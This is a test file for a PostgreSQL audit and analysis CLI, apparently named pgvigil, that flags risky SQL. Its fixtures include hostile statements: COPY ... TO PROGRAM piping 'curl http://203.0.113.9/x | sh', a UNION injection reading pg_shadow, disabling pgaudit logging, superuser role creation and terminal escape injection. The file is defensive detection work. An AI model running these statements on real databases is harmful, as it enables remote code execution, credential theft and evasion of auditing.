import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { packagePath } from '../../src/paths.ts';
import { CLI } from '../support/cli.ts';
import { atTerminal, pgvigil, workFolder } from './pgvigil.ts';
import { record } from './records.ts';

let cwd: string;
let remove: () => Promise<void>;

before(async () => {
  ({ path: cwd, remove } = await workFolder());
});
after(() => remove());

/** What the command prints for a statement, without its keys, which only name the text. */
async function explained(sql: string): Promise<string> {
  const { exitCode, stdout, stderr } = await pgvigil(cwd, ['explain', sql]);
  assert.equal(exitCode, 0, stderr);
  assert.equal(stderr, '');
  assert.match(stdout, /^statement_hash {8}[0-9a-f]{32}$/m);
  return stdout.replace(/^(?:statement_hash|template_id|fingerprint) .*\n/gm, '');
}

/** `pgvigil explain` with this text on its standard input. */
async function fed(input: string, ...args: string[]): Promise<{ exitCode: number; stdout: string }> {
  const child = spawn(process.execPath, [CLI, 'explain', ...args], {
    cwd,
    stdio: ['pipe', 'pipe', 'inherit'],
  });
  let stdout = '';
  child.stdout.setEncoding('utf8').on('data', (text) => {
    stdout += text;
  });
  child.stdin.end(input);
  const [exitCode] = await once(child, 'close');
  return { exitCode, stdout };
}

const json = async (sql: string) => (await pgvigil(cwd, ['explain', sql, '-f', 'json'])).stdout;

test('COPY PROGRAM that a DO block puts together from pieces is seen', async () => {
  const sql = `DO $$
BEGIN
\tEXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''curl http://203.0.113.9/x | sh''';
END $$`;
  assert.equal(
    await explained(sql),
    `\
sql_text
  DO $$
  BEGIN
      EXECUTE 'COPY (SELECT 1) TO PRO' || 'GRAM ''curl http://203.0.113.9/x | sh''';
  END $$

normalized
  DO $1

parse_ok              true
kinds                 DoStmt
hosts                 203.0.113.9
language              plpgsql
path                  curl http://203.0.113.9/x | sh
statement_count       1

flags
  body_copy_program   The body, or SQL in an argument, holds COPY … PROGRAM, also when put together from pieces.
  do_block            DO block.
  dyn_exec            The body runs dynamic SQL.
`,
  );
});

test('a password is shown nowhere, in no format', async () => {
  const sql = "CREATE ROLE mallory LOGIN SUPERUSER PASSWORD 'hunter2'";
  assert.equal(
    await explained(sql),
    `\
sql_text
  CREATE ROLE mallory LOGIN SUPERUSER PASSWORD '<REDACTED>'

normalized
  CREATE ROLE mallory LOGIN SUPERUSER PASSWORD $1

parse_ok              true
kinds                 CreateRoleStmt
role_options          canlogin, superuser
target                mallory
statement_count       1

flags
  sets_password       Sets a password.
`,
  );
  const columns = await json(sql);
  assert.match(columns, /superuser/);
  assert.doesNotMatch(columns, /hunter2/);
  // The parser's complaint quotes what is near.
  const refused = await explained("ALTER ROLE mallory PASSWORD = 'hunter2'");
  assert.match(refused, /^parse_ok {14}false: /m);
  assert.doesNotMatch(refused, /hunter2/);
});

test('every statement of a string is seen', async () => {
  assert.equal(
    await explained('BEGIN; DELETE FROM orders; DROP TABLE audit.log, public.users; COMMIT'),
    `\
sql_text
  BEGIN; DELETE FROM orders; DROP TABLE audit.log, public.users; COMMIT

normalized
  BEGIN; DELETE FROM orders; DROP TABLE audit.log, public.users; COMMIT

parse_ok              true
kinds                 DeleteStmt, DropStmt, TransactionStmt
relations_written     audit.log, orders, public.users
target                orders
statement_count       4
drop_count            2

flags
  delete              DELETE.
  dml_no_where        DELETE or UPDATE of every row.
  drop_data           Drops or empties tables, schemas or databases; tables in pg_temp are not counted.
  stacked             Another statement follows a query or a change of data. Transaction control, SET and clean-up are not counted; scripts that begin with DDL are not meant.
`,
  );
});

test('a syntax error is told with its place, counted as a person counts', async () => {
  assert.equal(
    await explained("SELECT 'é😀'\n  FRM users"),
    `\
sql_text
  SELECT 'é😀'
    FRM users

parse_ok              false: syntax error at or near "users" (line 2, character 7)
kinds                 SelectStmt
statement_count       1
`,
  );
});

test('a comment that the server takes is not blamed for an error behind it, and moves no place', async () => {
  const reason = async (sql: string) => /^parse_ok {14}false: (.*)$/m.exec(await explained(sql))?.[1];
  assert.equal(
    await reason('SELECT a NOT/* 😀\n */IN (2) FROM t WHERE x y'),
    'syntax error at or near "y" (line 2, character 26)',
  );
  assert.equal(
    await reason('SELECT /* a b FRM'),
    'unterminated /* comment at or near "/* a b FRM" (line 1, character 8)',
  );
});

test('what is no SQL, or too much for the parser, is told as that', async () => {
  assert.match(
    await explained('START_REPLICATION SLOT s LOGICAL 0/0'),
    /^parse_ok {14}false: a command of the replication protocol, not SQL$/m,
  );
  assert.match(
    await explained(`SELECT ${'('.repeat(3_000)}1${')'.repeat(3_000)}`),
    /^parse_ok {14}false: too deeply nested, too large or too slow to parse$/m,
  );
});

test('a setting is shown with name, value and scope', async () => {
  assert.equal(
    await explained("SET pgaudit.log = 'none'"),
    `\
sql_text
  SET pgaudit.log = 'none'

normalized
  SET pgaudit.log = $1

parse_ok              true
kinds                 VariableSetStmt
setting_name          pgaudit.log
setting_value         none
setting_scope         session
settings              pgaudit.log = 'none' (session)
statement_count       1
`,
  );
  assert.match(await explained("SET search_path = ''"), /^setting_value {9}''$/m);
  assert.match(
    await explained("SET ROLE \"a' (session), b = 'c\"; SELECT set_config('role', $1, true)"),
    /^settings {14}role = 'a'' \(session\), b = ''c' \(session\), role = \? \(local\)$/m,
  );
});

test('an injection is shown with what it reads and how it is built', async () => {
  const shown = await explained(
    "SELECT id FROM shop.products WHERE name = '' OR 1=1 UNION SELECT NULL FROM pg_shadow --",
  );
  for (const line of [
    'relations_read        shop.products',
    'catalogs              pg_shadow',
    'null_pads             1',
    '  tautology           A condition that is always true was added behind another one (`… OR 1=1`).',
    '  trailing_comment    Ends with a line comment.',
    '  union_catalog       A UNION joins user data with a system catalog.',
  ]) {
    assert.ok(shown.split('\n').includes(line), `${line}\n${shown}`);
  }
});

test('grants are shown with roles and grantees, pgaudit’s own cut as what it is', async () => {
  const grant = await explained('GRANT pg_read_all_data, azure_pg_admin TO mallory WITH ADMIN OPTION');
  assert.match(grant, /^roles_granted {9}azure_pg_admin, pg_read_all_data\ngrantees {14}mallory$/m);
  assert.match(grant, /^ {2}admin_option {8}Grants a role with ADMIN OPTION\.$/m);
  const cut = await explained('ALTER ROLE mallory SUPERUSER PASSWORD <REDACTED>');
  assert.match(cut, /^tail_redacted {9}true$/m);
});

test('JSON holds what the store holds of the same statement, under the names of the views', async () => {
  const sql = "SET pgaudit.log = 'none'; SET ROLE a; COPY customers TO PROGRAM 'curl http://203.0.113.9'";
  const line = record({
    second: 0,
    session: '6968baa0.100',
    text: `AUDIT: SESSION,1,1,READ,COPY,,,"${sql}",<none>`,
  });
  await writeFile(join(cwd, 'one.ndjson'), `${JSON.stringify({ records: [line] })}\n`);
  const filled = await pgvigil(cwd, ['backfill', 'one.ndjson', '-d', 'data']);
  assert.equal(filled.exitCode, 0, filled.stderr);
  const shown = JSON.parse(await json(sql)) as Record<string, unknown>;
  assert.equal(shown.setting_name, 'pgaudit.log');
  const select = `SELECT ${Object.keys(shown).join(', ')} FROM activity`;
  const stored = await pgvigil(cwd, ['query', select, '-d', 'data', '--format', 'json']);
  assert.equal(stored.exitCode, 0, stored.stderr);
  assert.deepEqual(JSON.parse(stored.stdout), [shown]);
});

test('every column that the view activity takes from a statement is in the JSON', async () => {
  const text = await readFile(packagePath('queries/views/03-activity.sql'), 'utf8');
  const [columns = ''] = /^ {2}t\.statement_hash,\n.*?^ {2}a\.tail_redacted,\n/ms.exec(text) ?? [];
  const names = [...columns.matchAll(/^ {2}[at]\.(\w+),$/gm)].map(([, name]) => name!);
  assert.deepEqual(Object.keys(JSON.parse(await json('SELECT 1'))).sort(), names.sort());
});

test('standard input is the same statement, without the line break of the shell', async () => {
  const sql = 'SELECT 1\n  FROM "été"';
  const direct = await json(sql);
  for (const args of [[], ['-']]) {
    assert.deepEqual(await fed(`${sql}\n`, ...args, '-f', 'json'), { exitCode: 0, stdout: direct });
  }
});

test('no statement is USAGE, exit code 2, and says what to do', async () => {
  for (const args of [[], ['-'], [''], [' \n']]) {
    const { exitCode, stdout, stderr } = await pgvigil(cwd, ['explain', ...args]);
    assert.equal(exitCode, 2);
    assert.equal(stdout, '');
    assert.match(stderr, /^pgvigil: the statement is empty \[USAGE\]\n {2}Give it as an argument, .*\n$/);
  }
});

test('text that drives a terminal, or looks like a finding, is shown as text', async () => {
  const sql = 'SELECT 1 AS "\u001b[2J\u202e\u0007\nflags                 none"\r';
  const shown = await explained(sql);
  assert.doesNotMatch(shown, /[^\P{C}\n]/u);
  assert.match(shown, /\\u001b\[2J\\u202e\\u0007\n {2}flags {17}none"\\r$/m);
  assert.doesNotMatch(shown, /^flags/m);
  const columns = await json(sql);
  assert.doesNotMatch(columns.trimEnd(), /\p{C}/u);
  assert.equal(JSON.parse(columns).sql_text, sql);
});

test('a text of nothing but line breaks and quotes is explained too', async () => {
  const { exitCode, stdout } = await fed(`SELECT '${'\n'.repeat(70_000)}`);
  assert.equal(exitCode, 0);
  assert.match(stdout, /^parse_ok {14}false: unterminated quoted string .* \(line 1, character 8\)$/m);
  assert.match(stdout, /^ {2}text_cut /m);
});

test('a terminal gets colours and lines that fit; without input it is told what to do', {
  skip: process.platform === 'linux' ? false : 'needs script of util-linux',
}, async () => {
  const relations = Array.from({ length: 20 }, (_, index) => `relation_${index}`);
  const shown = await atTerminal(cwd, [
    'explain',
    `SELECT "${'漢'.repeat(60)}" FROM ${relations.join(', ')}`,
  ]);
  const plain = shown.replace(/\x1b\[\d*m/g, '').split('\r\n');
  assert.notEqual(plain.join('\r\n'), shown);
  const width = (line: string) => line.length + (line.match(/漢/g)?.length ?? 0);
  assert.deepEqual(
    plain.filter((line) => width(line) > 80),
    [],
  );
  const from = plain.findIndex((line) => line.startsWith('relations_read'));
  assert.equal(plain[from], 'relations_read        relation_0, relation_1, relation_10, relation_11,');
  assert.equal(plain[from + 1], '                      relation_12, relation_13, relation_14, relation_15,');
  assert.match(
    await atTerminal(cwd, ['explain']),
    /pgvigil: there is no statement to explain \[USAGE\]\r\n {2}Give it as an argument/,
  );
});
